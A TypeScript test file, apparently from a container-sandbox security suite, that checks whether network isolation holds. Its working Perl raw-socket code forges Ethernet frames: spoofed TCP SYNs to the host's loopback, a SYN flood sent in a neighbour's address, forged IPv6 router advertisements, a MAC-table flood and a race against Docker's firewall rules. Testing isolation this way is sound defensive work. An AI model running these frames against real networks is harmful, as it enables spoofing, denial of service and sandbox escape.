import type { Attack } from '../support/attack.ts';
import { assertCanary, heard, ports } from '../support/canaries.ts';

/** Perl of the sandbox with a raw socket on eth0; `$to` and `$me` are the hardware addresses of gateway and sandbox. */
const frames = `use strict; use Socket; $| = 1;
sub hw { my $t = shift; pack 'H12', $t =~ s/://gr }
my $gateway = (split ' ', \`ip route show default\`)[2];
system "ping -c 1 -W 1 $gateway >/dev/null 2>&1";
my ($to) = \`ip neigh show $gateway\` =~ /lladdr (\\S+)/; $to = $to ? hw($to) : "\\xff" x 6;
my $me = hw(\`cat /sys/class/net/eth0/address\`);
my $index = \`cat /sys/class/net/eth0/ifindex\` + 0;
my ($own) = \`ip -4 -o addr show eth0\` =~ m{inet ([\\d.]+)};
socket(my $raw, 17, 3, 0x0300) or die "raw: $!";
sub frame { my ($type, $payload, $dst, $src) = @_;
  my $bytes = ($dst // $to) . ($src // $me) . pack('n', $type) . $payload;
  send($raw, $bytes, 0, pack('S n l S C C a8', 17, $type, $index, 1, 0, 6, ($dst // $to) . "\\0\\0")) or die "send: $!" }
sub sum { my $s = 0; $s += $_ for unpack 'n*', $_[0] . (length($_[0]) % 2 ? "\\0" : ''); $s = ($s & 0xffff) + ($s >> 16) while $s >> 16; ~$s & 0xffff }
sub syn { my ($from, $at, $port) = @_; my ($f, $a) = map inet_aton($_), $from, $at;
  my $tcp = pack 'n n N N n n n n', 40000 + int rand 20000, $port, 7, 0, 0x5002, 64000, 0, 0;
  substr($tcp, 16, 2) = pack 'n', sum($f . $a . pack('n n', 6, length $tcp) . $tcp);
  my $ip = pack 'n n n n C C n a4 a4', 0x4500, 20 + length $tcp, 1, 0, 64, 6, 0, $f, $a;
  substr($ip, 10, 2) = pack 'n', sum($ip); $ip . $tcp }
sub answers { my ($want, $seconds) = @_; my $n = 0; my $end = time + $seconds;
  while (time < $end) { my $r = ''; vec($r, fileno $raw, 1) = 1; next unless select $r, undef, undef, 0.2;
    recv $raw, my $p, 2000, 0; $n++ if $want->($p) } $n }
`;
const perl = (script: string) => `perl - 2>&1 <<'PERL'\n${frames}\n${script}\nPERL`;
const addressOf = (device: string) => `ip -4 -o addr show dev ${device} | awk '{ sub("/.*", "", $4); print $4; exit }'`;

/** dockerd lets the sandbox host's loopback be reached over bridges (route_localnet): the fence must not. */
const loopback: Attack = {
  name: 'the sandbox host’s loopback, by frames addressed to 127.0.0.1',
  fence: 'network',
  run: arena =>
    arena.attacker(
      perl(`frame 0x0800, syn($own, '127.0.0.1', 7070) for 1 .. 3;
        print 'ANSWERS ', answers(sub { substr($_[0], 12, 2) eq "\\x08\\0" && ord(substr $_[0], 23, 1) == 6 }, 2), "\\n"`),
    ),
  held: /^ANSWERS 0$/,
  bites: /^ANSWERS [1-9]/,
};

/** The control: it does answer for its own address on that wire. */
const arp: Attack = {
  name: 'learn by ARP which addresses the sandbox host has elsewhere',
  fence: 'wire',
  async run(arena) {
    const others = (
      await arena.outside(`${addressOf('eth0')}; ${addressOf('docker0')}; ${addressOf(`bd${arena.other.id}`)}`)
    ).split('\n');
    return arena.attacker(
      perl(`my %seen; for my $ask ($gateway, qw(${others.join(' ')} 10.214.0.1)) {
          frame 0x0806, pack('n n C C n a6 a4 a6 a4', 1, 0x0800, 6, 4, 1, $me, inet_aton($own), "\\0" x 6, inet_aton($ask)), "\\xff" x 6;
          answers(sub { my $p = shift; $seen{inet_ntoa substr $p, 28, 4} = 1 if substr($p, 12, 2) eq "\\x08\\x06" && unpack('n', substr $p, 20, 2) == 2; 0 }, 1) }
        print 'OWN ', ($seen{$gateway} ? 1 : 0), ' OTHERS ', scalar(grep { $_ ne $gateway } keys %seen), "\\n"`),
    );
  },
  held: /^OWN 1 OTHERS 0$/,
  bites: /OTHERS [1-9]/,
};

/** One sandbox's connections are counted against it: with a neighbour's address it could use up the neighbour's. */
const spoofed: Attack = {
  name: 'connect to the mirror in the neighbour’s name, until that has no connection left',
  fence: 'wire',
  async run(arena) {
    const victim = (
      await arena.outside(
        `docker inspect -f '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}' belowdeck-${arena.other.id}`,
      )
    ).trim();
    const counted = async () =>
      Number(await arena.outside(`grep -c 'src=${victim} dst=10.214.0.1' /proc/net/nf_conntrack 2>/dev/null || true`));
    // Its own, and those of the look before its hand-over, are remembered for two minutes.
    const before = await counted();
    const sent = await arena.attacker(
      perl(`frame 0x0800, syn('${victim}', '10.214.0.1', 5000) for 1 .. 200; print "SENT\\n"`),
    );
    const more = Math.max(0, (await counted()) - before);
    const mirror = await arena.neighbour("curl -s -o /dev/null -m 3 -w '%{http_code}' http://10.214.0.1:5000/v2/");
    return `${sent}\nCOUNTED ${more}\nNEIGHBOUR ${mirror}`;
  },
  held: /^SENT\nCOUNTED [01]\nNEIGHBOUR 200$/,
  bites: /COUNTED \d{2,}/,
};

/** A router advertisement would make the sandbox host send its IPv6 to the sandbox. */
const router: Attack = {
  name: 'become the sandbox host’s IPv6 router, or its neighbour',
  fence: null,
  async run(arena) {
    const state = () => arena.outside('ip -6 route show; ip -6 neigh show; ip -6 -o addr show scope global');
    const before = await state();
    const sent = await arena.attacker(
      perl(`my ($from, $all) = map { pack 'H32', $_ } 'fe8000000000000000000000000000bd', 'ff020000000000000000000000000001';
        my $icmp = pack('C C n C C n N N', 134, 0, 0, 64, 0, 1800, 0, 0) . pack('C C C C N N N H32', 3, 4, 64, 0xc0, 9000, 9000, 0, 'fd000097' . '0' x 24) . pack('C C a6', 1, 1, $me);
        substr($icmp, 2, 2) = pack 'n', sum($from . $all . pack('N N', length $icmp, 58) . $icmp);
        frame 0x86dd, pack('N n C C', 0x60000000, length $icmp, 58, 255) . $from . $all . $icmp, pack('H12', '333300000001') for 1 .. 5;
        print "SENT\\n"`),
    );
    const after = await state();
    return `${sent}\n${after === before ? 'SAME' : `CHANGED ${after}`}`;
  },
  held: /^SENT\nSAME$/,
  bites: /^CHANGED/m,
};

/** The control: the same frames do arrive at the bridge. */
const hardware: Attack = {
  name: 'fill the kernel’s table of hardware addresses, which nobody’s memory limit counts',
  fence: 'wire',
  async run(arena) {
    const bridge = `bd${arena.own.id}`;
    const [received, known] = [
      `cat /sys/class/net/${bridge}/statistics/rx_packets`,
      `bridge fdb show br ${bridge} | wc -l`,
    ];
    const before = Number(await arena.outside(received));
    const sent = await arena.attacker(
      perl(`frame 0x88b5, 'x' x 46, undef, pack('C C N', 2, 0x77, $_) for 1 .. 20000; print "SENT\\n"`),
    );
    const arrived = Number(await arena.outside(received)) - before;
    return `${sent}\nARRIVED ${arrived >= 20_000 ? 'all' : arrived}\nKNOWN ${await arena.outside(known)}`;
  },
  held: /^SENT\nARRIVED all\nKNOWN \d{1,2}$/,
  bites: /KNOWN \d{3,}/,
};

/** Services that listen for everybody on a wire: DHCP, mDNS and the like. */
const everybody: Attack = {
  name: 'the sandbox host by broadcast and multicast on its own wire',
  fence: 'network',
  async run(arena) {
    await heard(arena, 'gateway');
    const sent = await arena.attacker(
      perl(`socket my $udp, 2, 2, 0; setsockopt $udp, 1, 6, 1; my ($net) = $own =~ /^(\\d+\\.\\d+\\.\\d+)\\./;
        my ($broadcast) = \`ip -4 -o addr show eth0\` =~ m{brd ([\\d.]+)};
        for my $at ($broadcast, '255.255.255.255', '224.0.0.251', '224.0.0.1') { send $udp, 'hello', 0, pack_sockaddr_in(${ports.gateway}, inet_aton $at) for 1 .. 2 }
        print "SENT\\n"`),
    );
    await new Promise(resolve => setTimeout(resolve, 500));
    return `${sent}\nHEARD ${(await heard(arena, 'gateway')) || 'nothing'}`;
  },
  held: /^SENT\nHEARD nothing$/,
  bites: /^HEARD udp/m,
};

/** For a moment at each new network Docker takes its jump to DOCKER-USER away. */
const meanwhile: Attack = {
  name: 'a canary, again and again while Docker makes and removes networks',
  fence: 'network',
  async run(arena) {
    const address = '192.168.99.1';
    await assertCanary(arena, address);
    await heard(arena, 'canary');
    const knocking = arena.attacker(
      perl(`ip_route(); sub ip_route { system "ip route replace ${address} via $gateway dev eth0" }
        socket my $udp, 2, 2, 0; my $end = time + 12; my $n = 0;
        while (time < $end) { send $udp, 'hello', 0, pack_sockaddr_in(${ports.canary}, inet_aton '${address}'); $n++; select undef, undef, undef, 0.0005 }
        print 'KNOCKED ', ($n > 500 ? 'often' : $n), "\\n"`),
      30_000,
    );
    const made = await arena.outside(
      `end=$(($(date +%s) + 9)); n=0; while [ $(date +%s) -lt $end ]; do docker network create -o com.docker.network.bridge.name=xx$n canary-net >/dev/null && docker network rm canary-net >/dev/null && n=$((n + 1)); done; echo "MADE $n"`,
      30_000,
    );
    return `${await knocking}\n${made}\nHEARD ${(await heard(arena, 'canary')) || 'nothing'}`;
  },
  held: /^KNOCKED often\nMADE [1-9]\d*\nHEARD nothing$/,
  bites: /^HEARD udp/m,
};

/** What a sandbox can do on its own wire, with frames of its own making. */
export const onTheWire: readonly Attack[] = [loopback, arp, spoofed, router, hardware, everybody, meanwhile];
